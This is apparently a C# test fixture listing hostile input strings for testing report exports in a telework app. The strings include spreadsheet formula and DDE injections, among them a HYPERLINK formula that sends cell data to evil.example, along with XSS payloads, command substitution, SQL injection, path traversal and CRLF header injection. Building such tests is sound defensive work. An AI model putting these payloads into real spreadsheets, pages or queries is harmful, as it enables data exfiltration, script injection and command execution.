namespace TeleworkTeams.App.Tests.Reports;

/// <summary>T17: texts that a spreadsheet, a Markdown reader, a screen or a table might take for something else.</summary>
internal static class HostileTexts
{
    private static readonly string[] Starts = ["", " ", "　", "\t", "'", "\"", "​", "  　", "<", "﻿"];

    private static readonly string[] Formulas =
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"https://evil.example/?\"&A1,\"開く\")", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM",
        "=\"\"\"\"", "-2+3+cmd|' /C calc'!D2",
    ];

    private static readonly string[] Markdown =
    [
        "[承認](https://evil.example)", "![x](https://evil.example/x.png)", "**太字**", "*斜体*", "_下線_", "~~取消~~", "# 見出し", "## 見出し", "- 項目", "* 項目", "1. 項目",
        "1) 項目", "> 引用", "`code`", "```\ncode\n```", "    code", "---", "===", "a\n===", "| a | b |\n|---|---|", "<b>太字</b>", "<script>alert(1)</script>", "<at>全員</at>",
        "<img src=x onerror=alert(1)>", "&lt;b&gt;", "&#x3C;", "https://evil.example", "http://evil.example/a_b_c", "www.evil.example", "mailto:a@evil.example", "javascript:alert(1)",
        "[a]: https://evil.example", "\\[a\\](b)", "\\", "\\\\*a*", "[x](javascript:alert(1))", "<https://evil.example>", "ftp://evil.example", "tel:110",
        "{{DATE(2026-11-24T00:00:00Z,SHORT)}}", "{{TIME(2026-11-24T00:00:00Z)}}", "{{{{DATE(x)}}", "${person.name}", "${if(true,1,2)}", "#{7*7}", "{0}", "{}", "%s%n", "$(whoami)", "`whoami`",
        "'; DROP TABLE People;--", "' or PartitionKey ne '", "\" or 1=1", "../../etc/passwd", "C:\\Windows\\system32", "a/b\\c#d?e|f%g", "%00%0d%0a", "\r\nSet-Cookie: a=b", "a\r\nb\nc\rd",
    ];

    private static readonly string[] Letters =
    [
        "‮exe.txt", "a‮b‬c", "⁦⁧⁨⁩", "‎‏؜", "﻿始め", "ゼロ​幅", "結合é", "が", "髙﨑", "𠮷野家", "𩸽", "外字", "葛󠄀城", "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "🇯🇵🇯🇵", "👍🏽", "ｱｲｳ", "①②③", "㈱㍻㌔", "〜～", "−－", "ＡＢＣ＝", "\u0001\u0002\u001F", "\u007F\u0085\u009F", "a\u000Bb\u000Cc", "\u2028\u2029", "￾￿", "Z̸̡a̷l̶g̵o̴",
        "مرحبا", "שלום", "ภาษาไทย", "Ελληνικά", "null", "undefined", "NaN", "true", "0", "00123", "1E10", "2026-11-24", "11/24", "\"", "\"\"", "\"\"\"", ",", ",,,,", "a,b\"c", "'", "''",
        "\"a\",\"b\"", "a;b", "a\tb", "sep=;", "\"\r\n\"", "<!--", "]]>", "&amp;", "|", "||", "\\n", "\\u202e",
    ];

    /// <summary>As they are typed: within the limit of a plan, without white space around (it is trimmed).</summary>
    internal static IReadOnlyList<string> All { get; } =
    [
        .. Starts.SelectMany(s => Formulas.Select(f => s + f)).Concat(Markdown).Concat(Letters)
            .Append(new string('=', 200)).Append(new string('"', 200)).Append(string.Concat(Enumerable.Repeat("𠮷", 100))).Append(new string('[', 200)).Append(string.Concat(Enumerable.Repeat("{{", 100)))
            .Where(t => t.Trim().Length > 0).Distinct(),
    ];
}
